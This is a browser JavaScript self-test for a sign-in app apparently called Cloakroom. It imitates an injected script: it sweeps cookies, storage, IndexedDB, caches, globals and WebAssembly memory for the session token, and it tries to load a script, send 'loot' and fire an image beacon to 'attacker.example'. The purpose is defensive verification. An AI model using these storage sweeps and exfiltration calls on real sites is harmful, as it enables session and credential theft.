// The script of /proof. It looks for the session where a script that got into the page could look,
// and tries what such a script could do. Nothing of the app's own program is used: it stands alone,
// as an injected one would, and reaches the program's memory by importing the same file.

const FOREIGN = "https://attacker.example";
const JSON_ONLY = { headers: { accept: "application/json" } };

// What finds nothing to change. Every other function is sent a body that the server refuses.
const HARMLESS = {
  "/api/sign_in": "email=&password=",
  "/api/sign_up": "email=&password=",
  "/api/end_session": "id=no-such-device",
};

const get = (id) => document.getElementById(id);
const many = (count, one, more = `${one}s`) => `${count.toLocaleString("en")} ${count === 1 ? one : more}`;

/** What was read at one place: how many things of which kind, and their texts. */
class Reading {
  constructor() {
    this.texts = [];
    this.counts = new Map();
  }

  add(text, kind) {
    if (kind) this.counts.set(kind, (this.counts.get(kind) ?? 0) + 1);
    if (text !== null && text !== undefined) this.texts.push(String(text));
    return this;
  }

  /** Nothing of this kind is worth saying, too. */
  none(kind) {
    if (!this.counts.has(kind)) this.counts.set(kind, 0);
    return this;
  }

  get characters() {
    return this.texts.reduce((sum, text) => sum + text.length, 0);
  }

  toString() {
    const things = [...this.counts].map(([kind, count]) => many(count, ...kind.split("/")));
    return [...things, many(this.characters, "character")].join(", ");
  }
}

// ------------------------------------------------------------------------------- The places

function storage(area) {
  const reading = new Reading().none("entry/entries");
  for (let at = 0; at < area.length; at += 1) {
    const key = area.key(at);
    reading.add(key, "entry/entries").add(area.getItem(key));
  }
  return reading;
}

const request = (asked) =>
  new Promise((resolve, reject) => {
    asked.onsuccess = () => resolve(asked.result);
    asked.onerror = () => reject(asked.error);
    asked.onblocked = () => reject(new Error("in use"));
  });

/** JSON of whatever there is; what JSON does not know is named by its bytes or its kind. */
function written(value) {
  const seen = new Set();
  return JSON.stringify(value, (_, part) => {
    if (typeof part === "bigint") return String(part);
    if (part instanceof ArrayBuffer || ArrayBuffer.isView(part)) return bytesAsText(part);
    if (part instanceof Map || part instanceof Set) return [...part];
    if (typeof part === "object" && part !== null) {
      if (seen.has(part)) return "again";
      seen.add(part);
    }
    return part;
  });
}

function bytesAsText(bytes) {
  return new TextDecoder("latin1").decode(bytes);
}

/** All strings within reach of the window's own names. */
function reachable(reading) {
  const limit = 100_000;
  const seen = new Set();
  const queue = [];
  const visit = (value, depth) => {
    if (typeof value === "string") reading.add(value);
    else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) reading.add(bytesAsText(value));
    else if (value !== null && (typeof value === "object" || typeof value === "function")) {
      if (depth < 6 && !seen.has(value) && seen.size < limit) {
        seen.add(value);
        queue.push([value, depth]);
      }
    }
  };
  // These have places of their own.
  for (const own of [window, localStorage, sessionStorage]) seen.add(own);
  for (const name of Object.getOwnPropertyNames(window)) {
    reading.add(name, "name");
    try {
      visit(window[name], 1);
    } catch {
      // What refuses to be read holds nothing that a script could take.
    }
  }
  for (let at = 0; at < queue.length; at += 1) {
    const [holder, depth] = queue[at];
    if (holder instanceof Map) for (const pair of holder) pair.forEach((part) => visit(part, depth + 1));
    if (holder instanceof Set) for (const part of holder) visit(part, depth + 1);
    for (const key of Reflect.ownKeys(holder)) {
      if (typeof key === "string") reading.add(key);
      // Only what is simply there: a getter could do anything.
      const there = Object.getOwnPropertyDescriptor(holder, key);
      if (there && "value" in there) visit(there.value, depth + 1);
    }
  }
  for (let count = 0; count < seen.size; count += 1) reading.add(null, "object");
}

/** A server function is called, and what a script may see of its answer is read. */
async function call(reading, method, path) {
  const form = HARMLESS[path];
  const body =
    method === "GET"
      ? {}
      : {
          method,
          body: form ?? "",
          headers: {
            ...JSON_ONLY.headers,
            "content-type": form === undefined ? "text/plain" : "application/x-www-form-urlencoded",
          },
        };
  const answer = await fetch(path, { ...JSON_ONLY, ...body });
  reading.add(await answer.text(), "function");
  for (const [name, value] of answer.headers) reading.add(`${name}: ${value}`, "header");
}

/** The file of the app's program, as the browser's list of loaded files names it. */
function programFile() {
  return performance
    .getEntriesByType("resource")
    .map(({ name }) => name)
    .find((name) => name.startsWith(`${location.origin}/pkg/`) && /\/cloakroom[^/]*\.js$/.test(name));
}

const PLACES = {
  cookies() {
    const reading = new Reading().none("cookie");
    for (const cookie of document.cookie.split("; ").filter(Boolean)) reading.add(cookie, "cookie");
    return reading;
  },

  async "cookie-store"() {
    if (!window.cookieStore) throw new Error("This browser has none.");
    const reading = new Reading().none("cookie");
    for (const { name, value } of await cookieStore.getAll()) reading.add(`${name}=${value}`, "cookie");
    return reading;
  },

  "local-storage": () => storage(localStorage),
  "session-storage": () => storage(sessionStorage),

  async databases() {
    if (!indexedDB.databases) throw new Error("This browser does not list them.");
    const reading = new Reading().none("database").none("record");
    for (const { name } of await indexedDB.databases()) {
      reading.add(name, "database");
      const database = await request(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        reading.add(store);
        const records = database.transaction(store).objectStore(store);
        for (const key of await request(records.getAllKeys())) reading.add(written(key));
        for (const record of await request(records.getAll())) reading.add(written(record), "record");
      }
      database.close();
    }
    return reading;
  },

  async caches() {
    const reading = new Reading().none("cache").none("answer");
    for (const name of await caches.keys()) {
      reading.add(name, "cache");
      const cache = await caches.open(name);
      for (const asked of await cache.keys()) {
        reading.add(asked.url, "answer").add(written([...asked.headers]));
        const answer = await cache.match(asked);
        if (answer) reading.add(written([...answer.headers])).add(await answer.text());
      }
    }
    return reading;
  },

  async workers() {
    const reading = new Reading().none("worker");
    for (const found of await navigator.serviceWorker.getRegistrations()) {
      reading.add(found.scope, "worker");
      for (const worker of [found.installing, found.waiting, found.active]) reading.add(worker?.scriptURL);
    }
    return reading;
  },

  async html() {
    const reading = new Reading();
    reading.add(document.documentElement.outerHTML, "page");
    for (const script of document.scripts) reading.add(script.textContent, "script");
    for (const field of document.querySelectorAll("input, textarea")) reading.add(field.value, "field");
    const sent = await fetch(location.pathname, { headers: { accept: "text/html" } });
    reading.add(await sent.text(), "page");
    for (const [name, value] of sent.headers) reading.add(`${name}: ${value}`, "header");
    return reading;
  },

  globals() {
    const reading = new Reading();
    reachable(reading);
    return reading;
  },

  addresses() {
    const reading = new Reading();
    for (const url of [location.href, document.referrer, document.baseURI]) reading.add(url, "address/addresses");
    reading.add(written(history.state)).add(window.name);
    for (const { href } of document.querySelectorAll("a[href], link[href]")) reading.add(href, "address/addresses");
    for (const entry of performance.getEntries()) reading.add(JSON.stringify(entry), "timing");
    return reading;
  },

  async functions({ seen }) {
    const reading = new Reading();
    for (const [method, path] of seen.functions) await call(reading, method, path);
    return reading;
  },

  async memory() {
    const file = programFile();
    if (!file) throw new Error("The page's program is not there.");
    const program = await import(file);
    // It runs already, so this starts nothing: it hands over what the program exports.
    const { memory } = await program.default();
    const bytes = bytesAsText(memory.buffer);
    // Letters of two bytes each have a zero between them.
    return new Reading().add(bytes, "memory/memories").add(bytes.replaceAll("\0", ""));
  },
};

// ------------------------------------------------------------------- Recognising the cookie

const digests = new Map();

async function fingerprint(text) {
  let digest = digests.get(text);
  if (!digest) {
    const bytes = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
    digest = btoa(String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
    digests.set(text, digest);
  }
  return digest;
}

/** Everything in a text that could be the cookie: what has the shape of a JWT, whatever stands
 * around it, and every long run of base64url. */
function candidates(text) {
  const found = new Set();
  for (const [whole, head, payload, signature] of text.matchAll(/([\w-]+)\.([\w-]+)\.([\w-]{43,})/g)) {
    found.add(whole);
    for (let at = head.indexOf("eyJ"); at >= 0; at = head.indexOf("eyJ", at + 1)) {
      for (const end of [signature, signature.slice(0, 43)]) found.add(`${head.slice(at)}.${payload}.${end}`);
    }
  }
  for (const [run] of text.matchAll(/[\w-]{40,}/g)) found.add(run);
  return found;
}

async function hashed(reading) {
  const found = new Set();
  for (const text of reading.texts) for (const candidate of candidates(text)) found.add(await fingerprint(candidate));
  return found;
}

// --------------------------------------------------------------------------------- The deeds

/** Tries something that the policy is to refuse, and says which rule refused it. */
async function refusedBy(url, attempt) {
  const refused = new Promise((resolve) => {
    const listen = (event) => {
      if (!event.blockedURI.startsWith(url)) return;
      document.removeEventListener("securitypolicyviolation", listen);
      resolve(event.effectiveDirective);
    };
    document.addEventListener("securitypolicyviolation", listen);
  });
  const done = attempt().then(
    () => null,
    // It failed; if the policy did it, the browser says so in a moment.
    () => new Promise((resolve) => setTimeout(() => resolve(undefined), 500)),
  );
  return await Promise.race([refused, done]);
}

async function foreign(attempt) {
  const url = `${FOREIGN}/${crypto.randomUUID()}`;
  const rule = await refusedBy(url, () => attempt(url));
  if (rule) return ["refused", `The browser refused it by the rule ${rule}.`];
  return rule === null
    ? ["possible", "It was let through. The policy of this page is not what it should be."]
    : ["failed", "It failed, and not by the policy: the network may be away."];
}

async function ask(path, form) {
  const answer = await fetch(path, {
    method: "POST",
    headers: { ...JSON_ONLY.headers, "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams(form),
  });
  return [answer.status, await answer.json().catch(() => ({}))];
}

const DEEDS = {
  async ask() {
    const answer = await fetch("/api/viewer", JSON_ONLY);
    const viewer = await answer.json();
    return viewer?.email
      ? ["possible", `It works. The script asked who is signed in and was told: ${viewer.email} (status ${answer.status}).`]
      : ["failed", `Nobody was signed in (status ${answer.status}).`];
  },

  async "end-devices"() {
    const [status, { code }] = await ask("/api/end_session", { id: "no-such-device" });
    if (code === "recent_sign_in_needed") return ["refused", `The server asks for your password first (status ${status}).`];
    if (code === "not_found") return ["possible", `It works just now, because you signed in a moment ago. There was no such device (status ${status}).`];
    return ["failed", `The server's answer was ${status}.`];
  },

  async "change-password"() {
    const [status, { code }] = await ask("/api/change_password", { current_password: "", new_password: "" });
    if (code === "fields" && status === 422) return ["refused", `The server asks for your password first (status ${status}).`];
    return status < 400
      ? ["possible", `It works (status ${status}). It should not.`]
      : ["failed", `The server's answer was ${status}.`];
  },

  // `import` and not an element: it is the way that the rules for scripts are most lenient with.
  "foreign-script": () => foreign((url) => import(`${url}.js`)),
  "foreign-request": () => foreign((url) => fetch(url, { method: "POST", mode: "no-cors", body: "loot" })),
  "foreign-image": () =>
    foreign(
      (url) =>
        new Promise((resolve, reject) => {
          const image = new Image();
          image.onload = resolve;
          image.onerror = reject;
          image.src = url;
        }),
    ),
  leave: async () => ["possible", "Not tried. It would work."],
};

// ---------------------------------------------------------------------------------- The page

const SIGNS = {
  waiting: "Not tried yet",
  running: "Looking…",
  clear: "Not found",
  found: "Found",
  possible: "Possible",
  refused: "Refused",
  failed: "Not known",
};

function show(id, state, looked) {
  const line = get(`check-${id}`);
  line.dataset.state = state;
  line.querySelector(".state").textContent = SIGNS[state];
  line.querySelector(".looked").textContent = looked;
}

async function inspect() {
  const answer = await fetch("/api/inspect_session", JSON_ONLY);
  if (!answer.ok) throw new Error(answer.status === 401 ? "You were signed out. Sign in to go on." : `The server's answer was ${answer.status}.`);
  return await answer.json();
}

/** Such as "5 minutes". */
function span(seconds) {
  const [unit, length] = [["day", 86_400], ["hour", 3_600], ["minute", 60], ["second", 1]].find(([, it]) => seconds >= it) ?? ["second", 1];
  return many(Math.floor(seconds / length), unit);
}

const when = (unix_s) => new Date(unix_s * 1000).toISOString().replace("T", " ").replace(".000Z", " UTC");

function facts(seen) {
  return [
    ["Name", seen.name],
    ["Value", `${many(seen.length, "character")}, known to the server and to the browser alone`],
    ["Fingerprint", seen.fingerprint],
    ["Set with", seen.attributes],
    ["Not set with", "Domain: no neighbouring site gets it"],
    ["Received", "its name and its value, once; browsers send nothing else of it"],
    ["Session's age", `${span(seen.now - seen.started_at)}; it began on ${when(seen.started_at)}`],
    ["Generation", `${seen.generation}, made on ${when(seen.renewed_at)}`],
  ];
}

function showFacts(seen) {
  const list = get("proof-server");
  list.replaceChildren();
  for (const [name, value] of facts(seen)) {
    const term = document.createElement("dt");
    term.textContent = name;
    const description = document.createElement("dd");
    description.textContent = value;
    list.append(term, description);
  }
}

function say(text, state) {
  const line = document.createElement("p");
  line.className = `notice ${state}`;
  line.textContent = text;
  get("proof-said").replaceChildren(line);
}

async function run() {
  const started = performance.now();
  get("proof-again").disabled = true;
  say("Looking…", "");
  for (const id of [...Object.keys(PLACES), ...Object.keys(DEEDS)]) show(id, "waiting", "");
  const results = [];
  try {
    const seen = await inspect();
    const readings = [];
    for (const [id, look] of Object.entries(PLACES)) {
      show(id, "running", "");
      try {
        const reading = await look({ seen });
        readings.push({ id, looked: reading.toString(), characters: reading.characters, hashes: await hashed(reading) });
      } catch (error) {
        readings.push({ id, looked: error.message, characters: 0, hashes: null });
      }
      judge(readings.at(-1), [seen.fingerprint]);
    }
    // A cookie can be renewed in between; either is the session.
    const after = await inspect();
    for (const reading of readings) results.push(judge(reading, [seen.fingerprint, after.fingerprint]));
    for (const [id, attempt] of Object.entries(DEEDS)) {
      show(id, "running", "");
      const [state, text] = await attempt().catch((error) => ["failed", error.message]);
      show(id, state, text);
      results.push({ id, state, looked: text });
    }
    showFacts(after);
    finish(readings, results, after, performance.now() - started);
  } catch (error) {
    say(`It stopped: ${error.message}`, "danger");
  }
  get("proof-again").disabled = false;
  get("proof-again").hidden = false;
}

function judge({ id, looked, hashes }, fingerprints) {
  const state = hashes === null ? "failed" : fingerprints.some((it) => hashes.has(it)) ? "found" : "clear";
  show(id, state, hashes === null ? looked : `Looked at ${looked}; ${many(hashes.size, "text")} that could have been it.`);
  return { id, state, looked };
}

const nameOf = (id) => get(`check-${id}`).querySelector("b").textContent;

function finish(readings, results, seen, took_ms) {
  const places = results.filter(({ id }) => id in PLACES);
  const found = places.filter(({ state }) => state === "found");
  const unknown = places.filter(({ state }) => state === "failed");
  const characters = readings.reduce((sum, reading) => sum + reading.characters, 0);
  const extent = `${many(places.length - unknown.length, "place")} and ${many(characters, "character")} in ${(took_ms / 1000).toFixed(1)} s`;
  const missed = unknown.length > 0 ? ` ${many(unknown.length, "place")} could not be looked at.` : "";
  if (found.length > 0) {
    say(`Your session was found: ${found.map(({ id }) => nameOf(id)).join(", ")}. (${extent}.)${missed}`, "danger");
  } else {
    say(`The script looked through ${extent}, and your session was nowhere in it.${missed}`, missed ? "" : "ok");
  }
  get("proof-report").value = [
    "Cloakroom: can a script take the sign-in?",
    `Page: ${location.origin}${location.pathname}`,
    `Time: ${new Date().toISOString()}`,
    `Browser: ${navigator.userAgent}`,
    `Result: ${found.length > 0 ? "FOUND" : "not found"} (${extent}).${missed}`,
    "",
    "What a script can find",
    ...places.map(({ id, state, looked }) => `- ${nameOf(id)}: ${SIGNS[state].toLowerCase()} (${looked})`),
    "",
    "What a script can still do",
    ...results.filter(({ id }) => id in DEEDS).map(({ id, state, looked }) => `- ${nameOf(id)}: ${SIGNS[state].toLowerCase()}. ${looked}`),
    "",
    "What the server sees",
    ...facts(seen).map(([name, value]) => `- ${name}: ${value}`),
    "",
  ].join("\n");
  get("proof-copy").hidden = false;
}

async function copy() {
  const report = get("proof-report");
  try {
    await navigator.clipboard.writeText(report.value);
    get("proof-copied").textContent = "Copied.";
  } catch {
    report.focus();
    report.select();
    get("proof-copied").textContent = "Select and copy it from the box above.";
  }
}

/** Once for each time that the page comes up; before, its program is not there yet. */
function begin() {
  const page = document.querySelector("main.proof[data-live]");
  if (!page || page.dataset.begun || !get("proof-again")) return;
  page.dataset.begun = "true";
  get("proof-again").addEventListener("click", run);
  get("proof-copy").addEventListener("click", copy);
  void run();
}

new MutationObserver(begin).observe(document.documentElement, { subtree: true, childList: true, attributes: true, attributeFilter: ["data-live"] });
begin();
